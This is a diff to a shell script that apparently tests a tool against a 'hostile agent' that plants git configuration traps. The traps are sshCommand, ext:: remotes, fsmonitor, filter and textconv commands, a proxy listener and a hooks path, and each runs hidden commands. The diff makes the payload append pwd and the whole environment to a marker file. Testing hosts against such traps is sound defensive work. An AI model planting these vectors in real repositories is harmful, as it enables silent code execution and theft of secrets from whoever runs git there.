@@ -5,6 +5,8 @@ set -u
 attack=$(sed -n '1s/^attack \([a-z0-9-]*\).*$/\1/p' "$USINE_PROMPT_FILE")
 here=$(pwd)
 marker="$MARKERS/$attack"
+# What every planted program does: note where it ran and with what environment (were it ever run).
+mark="pwd >>'$marker'; env >>'$marker'"
 echo "hostile agent: attack $attack"
 edit() { printf 'a change made by the %s attack\n' "$attack" >>"$1"; }
 keep() { mkdir -p "$LOOT" 2>/dev/null && cat >>"$LOOT/$attack" 2>/dev/null; }
@@ -27,7 +29,7 @@ plant() {
     n=$((n + 1)); sleep 0.2
   done
 }
-program() { printf '#!/bin/sh\ntouch %s\ncat\n' "$marker" >"$1"; chmod +x "$1"; }
+program() { printf '#!/bin/sh\n%s\ncat\n' "$mark" >"$1"; chmod +x "$1"; }
 case $attack in
   remote-url)
     edit CHANGES.md
@@ -41,11 +43,11 @@ case $attack in
     plant http.proxy "$LISTENER" "http.$EMULATOR/.proxy" "$LISTENER" http.proxyAuthMethod basic ;;
   ssh-command)
     edit CHANGES.md
-    plant core.sshCommand "sh -c 'touch $marker'" "url.ssh://git@127.0.0.1:1/.insteadOf" "$EMULATOR/" ;;
+    plant core.sshCommand "sh -c \"$mark\"" "url.ssh://git@127.0.0.1:1/.insteadOf" "$EMULATOR/" ;;
   ext-remote)
     edit CHANGES.md
-    plant protocol.ext.allow always protocol.allow always remote.origin.url "ext::sh -c touch% $marker" \
-      "url.ext::sh -c touch% $marker% .insteadOf" "$EMULATOR/" ;;
+    ext="ext::sh -c pwd>>$marker;env>>$marker;:% "
+    plant protocol.ext.allow always protocol.allow always remote.origin.url "$ext" "url.$ext.insteadOf" "$EMULATOR/" ;;
   fsmonitor)
     program "$here/.git/fsmonitor"
     edit CHANGES.md
@@ -64,13 +66,13 @@ case $attack in
     printf '*.md filter=x diff=x\n' >.gitattributes
     edit README.md
     edit CHANGES.md
-    plant filter.x.clean "sh -c 'touch $marker; cat'" filter.x.smudge "sh -c 'touch $marker; cat'" \
-      filter.x.required true diff.x.textconv "sh -c 'touch $marker; cat'" diff.x.command "sh -c 'touch $marker'" \
+    plant filter.x.clean "sh -c \"$mark; cat\"" filter.x.smudge "sh -c \"$mark; cat\"" \
+      filter.x.required true diff.x.textconv "sh -c \"$mark; cat\"" diff.x.command "sh -c \"$mark\"" \
       core.attributesFile "$here/.git/agent-attributes" ;;
   gitdir-file)
     # A git directory of its own beside the worktree, full of traps, and a `.git` file naming it.
     cp -R .git ../agent-gitdir
-    git --git-dir=../agent-gitdir config core.fsmonitor "sh -c 'touch $marker'"
+    git --git-dir=../agent-gitdir config core.fsmonitor "sh -c \"$mark\""
     git --git-dir=../agent-gitdir config core.hooksPath "$here/../agent-gitdir/agent-hooks"
     git --git-dir=../agent-gitdir config remote.origin.url "$LISTENER/acme/widgets.git"
     git --git-dir=../agent-gitdir config http.proxy "$LISTENER"
